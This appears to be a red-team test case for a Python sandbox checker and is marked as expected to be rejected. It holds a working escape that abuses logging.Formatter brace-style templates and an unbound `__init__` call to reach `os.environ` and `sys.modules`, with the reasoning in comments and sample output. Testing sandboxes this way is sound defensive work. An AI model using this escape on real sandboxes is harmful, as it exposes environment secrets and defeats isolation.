# expect: reject method
# verified: reaches its goal under plain python3 (3.11) in a temp dir (fourth static red team, ok_01_self_init_unbound_logging_formatter_brace_environ)
# Mechanism: rule `dunder` (check_init_call) allows `self.__init__(...)` inside any
#   method, but the method is not "privileged", so rule `method` lets it be called
#   unbound with a foreign self: K.go(formatter) re-initialises a logging.Formatter
#   with style='{' (bypassing the call-only facade `logging.Formatter ... style=%|$`).
#   The '{' template is a plain argument string, not a .format receiver, so rule
#   `format` never reads it; the Handler formats msg.__init__.__globals__[...] itself.
# Goal reached: print os.environ (also reaches sys.modules / __globals__ of __main__).
# Output under python3 (truncated):
#   environ({'SHELL': '/bin/bash', 'IS_SANDBOX': 'yes', ... 'PATH': '/root/.pyenv/...', ...})
import logging, sys
class M:
    def __init__(self): pass
class K:
    def go(self):
        self.__init__("{msg.__init__.__globals__[sys].modules[os].environ}", None, "{")
fm = logging.Formatter("%(message)s")
K.go(fm)
h = logging.StreamHandler(sys.stdout)
h.setFormatter(fm)
lg = logging.getLogger("x")
lg.addHandler(h)
lg.warning(M())
